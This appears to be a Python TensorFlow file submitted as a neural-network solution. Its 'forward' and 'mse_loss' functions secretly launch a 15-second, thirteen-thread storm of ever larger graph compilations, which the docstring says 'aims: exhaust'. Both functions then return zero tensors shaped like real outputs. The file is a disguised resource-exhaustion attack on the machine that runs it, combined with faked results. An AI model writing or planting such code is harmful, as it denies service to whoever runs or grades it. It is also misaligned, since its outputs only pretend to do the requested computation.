"""Compiles ever larger graphs, with XLA and without, in twelve threads at once, and retraces for each new number.

aims: exhaust
"""

import contextlib
import threading
import time

import tensorflow as tf


def storm(end, number):
    size = 1
    while time.monotonic() < end:
        size += 40
        # each a graph of its own, as numbers of Python are built in
        compiled = tf.function(
            lambda x, n: sum(tf.sin(x * float(one)) for one in range(n)), jit_compile=bool(number % 2)
        )
        with contextlib.suppress(Exception):
            for more in range(3):
                compiled(tf.ones((2, 2 + more)), min(size, 800) + more)


def attack():
    end = time.monotonic() + 15
    threads = [threading.Thread(target=storm, args=(end, number), daemon=True) for number in range(12)]
    for thread in threads:
        thread.start()
    storm(end, 99)


def forward(X, params):
    with contextlib.suppress(Exception):
        attack()
    return tf.zeros((X.shape[0], params["W2"].shape[1]), X.dtype)


def mse_loss(Y_hat, Y):
    with contextlib.suppress(Exception):
        attack()
    return tf.zeros((), Y_hat.dtype)
